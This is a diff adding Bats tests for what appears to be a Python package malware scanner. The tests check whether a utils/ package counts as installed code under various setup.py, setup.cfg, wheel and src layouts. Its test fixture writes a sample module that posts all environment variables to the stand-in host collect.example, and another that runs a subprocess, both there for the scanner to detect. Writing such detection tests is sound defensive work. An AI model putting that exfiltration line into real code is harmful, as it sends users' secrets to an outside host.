@@ -147,3 +147,91 @@ PY
 	run hits p RemoteCommand ProcessExecution
 	assert_output "pkg/__init__.py 7 ProcessExecution function 2"
 }
+
+# sdist DIR: an sdist tree under DIR/p-1.0 whose utils/ sends the environment to a
+# hard-coded host from a function (an installed package's theft; a repository script's CI
+# call when nothing installs it).
+sdist_with_utils() {
+	mkdir -p p/p-1.0/utils p/p-1.0/mypkg
+	: > p/p-1.0/mypkg/__init__.py
+	printf 'import subprocess\nsubprocess.Popen(["id"])\n' > p/p-1.0/utils/__init__.py
+	cat > p/p-1.0/utils/thread.py <<'PY'
+import os
+import requests
+
+def start():
+    requests.post("https://collect.example/up", data=dict(os.environ))
+PY
+}
+
+# exfil DIR: "path detection context score tags" of the Exfiltration and ProcessExecution
+# hits, of the tags only installed or not-installed.
+exfil() {
+	aura-fetch "$1" | aura-unpack | aura-parse | aura-rewrite | aura-analyze |
+		jq -r 'select(.type == "hit" and (.detection == "Exfiltration" or .detection == "ProcessExecution")) |
+			"\(.path) \(.detection) \(.context) \(.score) \(.tags | map(select(. == "installed" or . == "not-installed")) | join(","))"' |
+		sort -u
+}
+
+@test "a utils/ package that setup.py's find_packages() installs weighs as installed code, not as a repository script" {
+	sdist_with_utils
+	cat > p/p-1.0/setup.py <<'PY'
+from setuptools import setup, find_packages
+setup(name="p", version="1.0", packages=find_packages())
+PY
+	run exfil p
+	assert_output "$(printf '%s\n' \
+		'p-1.0/utils/__init__.py ProcessExecution function 2 not-installed' \
+		'p-1.0/utils/__init__.py ProcessExecution import 40 installed' \
+		'p-1.0/utils/thread.py Exfiltration function 30 installed' \
+		'p-1.0/utils/thread.py Exfiltration function 5 not-installed')"
+}
+
+@test "packages=[...] (through a name), setup.cfg's packages = find: and a wheel's top-level utils/ install it too" {
+	sdist_with_utils
+	cat > p/p-1.0/setup.py <<'PY'
+from setuptools import setup
+PACKAGES = ["mypkg"] + ["utils"]
+setup(name="p", version="1.0", packages=PACKAGES)
+PY
+	run exfil p
+	assert_line 'p-1.0/utils/thread.py Exfiltration function 30 installed'
+	printf 'from setuptools import setup\nsetup()\n' > p/p-1.0/setup.py
+	printf '[metadata]\nname = p\n\n[options]\npackages = find:\n\n[options.packages.find]\nexclude =\n    tests\n    tests.*\n' > p/p-1.0/setup.cfg
+	run exfil p
+	assert_line 'p-1.0/utils/thread.py Exfiltration function 30 installed'
+	mkdir -p w/utils w/p-1.0.dist-info
+	cp p/p-1.0/utils/thread.py w/utils/thread.py
+	printf 'Wheel-Version: 1.0\n' > w/p-1.0.dist-info/WHEEL
+	printf 'Name: p\nVersion: 1.0\n' > w/p-1.0.dist-info/METADATA
+	(cd w && zip -qr ../p-1.0-py3-none-any.whl .)
+	run exfil p-1.0-py3-none-any.whl
+	assert_line 'utils/thread.py Exfiltration function 30 installed'
+}
+
+@test "a utils/ the setup does not install stays a repository script: excluded, no __init__.py, not listed, src layout" {
+	sdist_with_utils
+	cat > p/p-1.0/setup.py <<'PY'
+from setuptools import setup, find_packages
+setup(name="p", version="1.0", packages=find_packages(exclude=["utils", "utils.*"]))
+PY
+	run exfil p
+	refute_output --partial ' installed'
+	printf 'from setuptools import setup, find_packages\nsetup(name="p", packages=find_packages())\n' > p/p-1.0/setup.py
+	rm p/p-1.0/utils/__init__.py
+	run exfil p
+	refute_output --partial ' installed'
+	: > p/p-1.0/utils/__init__.py
+	printf 'from setuptools import setup\nsetup(name="p", packages=["mypkg"])\n' > p/p-1.0/setup.py
+	run exfil p
+	refute_output --partial ' installed'
+	printf 'from setuptools import setup, find_packages\nsetup(name="p", package_dir={"": "src"}, packages=find_packages("src"))\n' > p/p-1.0/setup.py
+	run exfil p
+	refute_output --partial ' installed'
+	printf '[options]\npackages = find:\npackage_dir =\n    =src\n' > p/p-1.0/setup.cfg
+	printf 'from setuptools import setup\nsetup()\n' > p/p-1.0/setup.py
+	run exfil p
+	refute_output --partial ' installed'
+	run risk p
+	assert_output --regexp '^(info|low)$'
+}
